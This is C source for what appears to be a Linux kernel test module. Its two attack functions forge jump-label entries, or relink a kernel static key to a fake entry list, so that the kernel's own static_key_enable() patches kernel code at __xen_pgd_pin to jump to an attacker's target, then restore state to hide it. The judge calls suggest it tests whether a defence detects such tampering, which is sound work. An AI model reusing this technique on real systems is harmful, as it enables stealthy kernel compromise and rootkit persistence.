// SPDX-License-Identifier: GPL-2.0-only
/*
 * A static key switched by the kernel's own static_key_enable(), whose entries are the module's:
 * they name a jump label of the kernel's and a target of the attacker's, and the kernel patches
 * what they say. The key is one of the module's, or a key of the kernel's own that was led away
 * from its entries.
 */
#include <linux/jump_label.h>
#include <linux/module.h>
#include <linux/string.h>

#include "poke.h"

#define PIN "__xen_pgd_pin"

/* kernel/jump_label.c: which entries modules add to a key. */
struct rf_key_mod {
	struct rf_key_mod *next;
	struct jump_entry *entries;
	struct module *mod;
};
#define LINKED 2UL /* JUMP_TYPE_LINKED */

static struct jump_entry own;

/* The site's, but for the key and the target. The entry is writable, and in reach of text. */
static void forge_entry(const struct rf_report *r, struct static_key *key)
{
	own.code = (long)r->at - (long)&own.code;
	own.target = (long)rf_forged - (long)&own.target;
	own.key = (long)key - (long)&own.key;
}

/*
 * The kernel walks a module's entries up to where its table ends. What was said of ours is put
 * back at once: nothing else looks meanwhile.
 */
static void enable(struct static_key *key)
{
	struct jump_entry *entries = THIS_MODULE->jump_entries;
	unsigned int count = THIS_MODULE->num_jump_entries;

	THIS_MODULE->jump_entries = &own;
	THIS_MODULE->num_jump_entries = 1;
	static_key_enable(key);
	THIS_MODULE->jump_entries = entries;
	THIS_MODULE->num_jump_entries = count;
}

static void judge(struct rf_report *r)
{
	u8 forged[RF_INSN];

	rf_branch(forged, JMP32_INSN_OPCODE, r->at, rf_forged);
	rf_poke_judge(r, forged, true, NULL);
}

void attack_forged_static_key(struct rf_report *r)
{
	static struct static_key key;
	struct rf_jump_site site;

	if (!rf_jump_site(r, PIN, &site) || !rf_poke_begin(r))
		return;
	forge_entry(r, &key);
	key.entries = &own;
	enable(&key);
	judge(r);
	/* The kernel believes that it is on; its label is as it was before. */
	atomic_set(&key.enabled, 0);
}

void attack_moved_static_key(struct rf_report *r)
{
	struct rf_key_mod mod = { .entries = &own, .mod = THIS_MODULE };
	struct rf_jump_site site;
	struct static_key *key;
	unsigned long type;

	if (!rf_jump_site(r, PIN, &site) || !rf_poke_begin(r))
		return;
	key = jump_entry_key(site.entry);
	forge_entry(r, key);
	type = key->type;
	WRITE_ONCE(key->type, (unsigned long)&mod | LINKED | (type & 1));
	enable(key);
	WRITE_ONCE(key->type, type);
	judge(r);
	atomic_set(&key->enabled, 0);
}
